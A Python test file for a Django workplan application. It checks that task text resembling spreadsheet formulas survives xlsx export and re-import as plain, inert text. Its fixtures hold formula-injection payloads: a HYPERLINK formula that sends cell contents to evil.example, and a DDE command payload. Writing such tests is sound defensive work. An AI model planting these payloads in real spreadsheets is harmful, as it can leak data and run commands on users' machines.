"""Task text that looks like a spreadsheet formula (=, +, -, @) survives the task table's round
trip: it is exported as text, and the unmodified export imports as no changes."""

import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from workplan.accounts.tests.factories import make_user
from workplan.core.roles import Role
from workplan.org.models import Department
from workplan.plans.models import Plan, Task
from workplan.plans.table import TaskValues, table_rows, table_title
from workplan.plans.table_actions import do_apply_table, do_update_task
from workplan.plans.table_import import read_table
from workplan.plans.xlsx import task_table_workbook

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SUM = "=1+1"
PIPE = "+cmd|' /C calc'!A0"
AT = "@SUM(1)"
MINUS = "-2+3"


@pytest.fixture
def plan(hubei_txt, supervisor):
    """The Hubei plan with task 1.1 edited in the row editor to read as formulas throughout:
    its text, leader, co department, deadline, outcome and remarks."""
    call_command("import", str(hubei_txt))
    plan = Plan.objects.get()
    chief = make_user("chief", [Role.LEADER], full_name=AT)
    Department.objects.create(name=SUM, kind=Department.Kind.ADMINISTRATIVE)
    task = Task.objects.get(key_point__plan=plan, key_point__number=1, number=1)
    values = TaskValues(LINK, chief, ["党办校办"], [SUM], [], MINUS, PIPE, LINK)
    do_update_task(task.pk, values, read_version=task.version, by=supervisor)
    return plan


def export(plan) -> bytes:
    return task_table_workbook(table_title(plan), table_rows(plan))


def test_office_exports_formula_like_text_as_it_was_typed(plan):
    sheet = load_workbook(io.BytesIO(export(plan))).active
    row = next(r for r in range(3, sheet.max_row + 1) if sheet.cell(r, 1).value == "1.1")
    values = [sheet.cell(row, column).value for column in range(3, 10)]
    assert values == [LINK, AT, "党办校办", SUM, MINUS, PIPE, LINK]
    assert all(sheet.cell(row, column).data_type == "s" for column in range(3, 10))


def test_office_reimports_the_unmodified_export_as_no_changes(plan):
    diff = read_table(export(plan), "表.xlsx", plan)
    assert diff.errors == []
    assert not diff.has_changes


def test_clerk_adds_a_formula_like_task_and_it_round_trips(plan, supervisor):
    """A clerk types a new task as text in Excel (a text cell, as Excel keeps '=…); it is
    imported word for word, and exporting and importing again changes nothing."""
    book = load_workbook(io.BytesIO(export(plan)))
    sheet = book.active
    new_row = sheet.max_row + 1
    for column, value in ((1, "1.9"), (3, "@提醒 =A1"), (5, "党办校办"), (8, SUM), (9, MINUS)):
        cell = sheet.cell(new_row, column, value)
        cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    diff = read_table(buffer.getvalue(), "表.xlsx", plan)
    assert diff.errors == []
    assert [(a.text, a.outcome, a.note) for a in diff.added] == [("@提醒 =A1", SUM, MINUS)]
    do_apply_table(plan, diff, by=supervisor)
    again = read_table(export(plan), "表.xlsx", plan)
    assert again.errors == [] and not again.has_changes
